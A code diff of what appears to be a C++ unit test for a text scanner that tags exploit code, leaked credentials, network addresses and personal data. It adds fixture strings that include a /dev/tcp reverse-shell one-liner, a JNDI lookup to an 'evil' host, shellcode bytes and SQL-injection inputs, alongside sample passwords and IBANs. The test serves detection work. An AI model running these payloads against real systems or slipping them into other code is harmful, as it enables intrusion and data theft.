@@ -22,13 +22,25 @@ TEST_CASE("likely exploit code, secrets, addresses and data of persons are found
       {"password = \"tr0ub4dor&3\"", "credential:leaked-data@1"},
       {"api_key: 9f8a7b6c5d4e3f2a", "credential:leaked-data@1"},
       {"the host 10.20.30.40 answers", "network-address:network-detail@1"},
-      {"from 8.8.4.4 to fe80:0:0:0:1:2:3:4", "network-address:network-detail@1"},
+      {"from 8.8.4.4 to fe80:0:0:0:1:2:3:4", "network-address:network-detail@1 network-address:network-detail@1"},
       {"written by ana.lopez@acme.com", "personal-data:leaked-data@1"},
       {"card 4111 1111 1111 1111 was shown", "personal-data:leaked-data@1"},
       {"GET /?x=${jndi:ldap://evil/a}", "exploit-code:poc@1"},
       {"bash -i >& /dev/tcp/h/4444 0>&1", "exploit-code:exploit-tool@1"},
       {"buf = '\\x90\\x90\\x90\\x90\\x31\\xc0\\x50\\x68'", "exploit-code:poc@1"},
       {"a\nb\nfrom pwn import *", "exploit-code:poc@3"},
+      {"buf = b'\\x90\\x90\\x31\\xc0'", "exploit-code:poc@1"},
+      {"s.send(struct.pack('<I', 0xbffff5a0) + b'\\x41')", "exploit-code:poc@1"},
+      {"name=' OR 1=1 --", "exploit-code:poc@1"},
+      {"admin' or 1=1#", "exploit-code:poc@1"},
+      {"id=' or '1'='1", "exploit-code:poc@1"},
+      {"x'; DROP TABLE users", "exploit-code:poc@1"},
+      {"git clone https://user:hunter2@host/", "credential:leaked-data@1"},
+      {"postgres://app:s3cr3t-9@db.internal:5432/x", "credential:leaked-data@1"},
+      {"it answers on fe80::1", "network-address:network-detail@1"},
+      {"and on fd12:3456:789a::1.", "network-address:network-detail@1"},
+      {"pay to DE89 3704 0044 0532 0130 00", "personal-data:leaked-data@1"},
+      {"pay to GB82WEST12345698765432, please", "personal-data:leaked-data@1"},
   };
   for (const auto& row : kRows) CHECK(kinds_in(row.text) == row.signs);
 }
@@ -39,7 +51,9 @@ TEST_CASE("what is written about attacks every day is no sign") {
       "Use 192.0.2.7 or 2001:db8::1 in examples.", "It listens on 127.0.0.1 and 0.0.0.0.", "Write to security@acme.com or ana@example.org.", "pkg:npm/left-pad@1.3.0", "user@4.2",
       "password: <your password>", "password = changeme1", "The field password: required", "PASSWORD=${DB_PASSWORD1}", "reset your password", "CVE-2021-44228 and CVE-2021-45046", "call 4000 000 000",
       "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", "2026-11-29T12:00:00Z", "12:34:56", "std::vector<int>", "1234567890123456", "the regex \\x41 matches A", "We used ysoserial to test.",
-      "SELECT name FROM users", "The include path is /etc/passwd.d", "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H", "oid 1.3.6.1.4.1", "-----BEGIN PUBLIC KEY-----", "-----BEGIN PGP SIGNATURE-----",
+      "It takes \\x90\\x41 and \\x0d\\x0a\\x0d\\x0a as they are.", "struct.pack('<I', length) writes the length", "the parser takes 'a' or 1 = 1 as a condition", "either 'x' or 'y' = a value", "SELECT * FROM t WHERE a = 'b' OR c = 1",
+      "WHERE 1=1", "drop table users;", "https://host:8443/path@2", "https://user:password@host/", "https://user:pass@host/", "postgres://postgres:postgres@localhost/db", "ssh://git@host/repo", "http://user:<password>@host/", "http://trusted.host:80@other.host/",
+      "at fe80::/10 and fd00::/8", "fd::", "The dead beef::cafe", "DE89 3704 0044 0532 0130 01", "DE12345678901234567890", "GB82WEST", "CVE20240001AB", "SELECT name FROM users", "The include path is /etc/passwd.d", "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H", "oid 1.3.6.1.4.1", "-----BEGIN PUBLIC KEY-----", "-----BEGIN PGP SIGNATURE-----",
   };
   for (const auto* text : kQuiet) CHECK_MESSAGE(kinds_in(text) == "", text);
 }
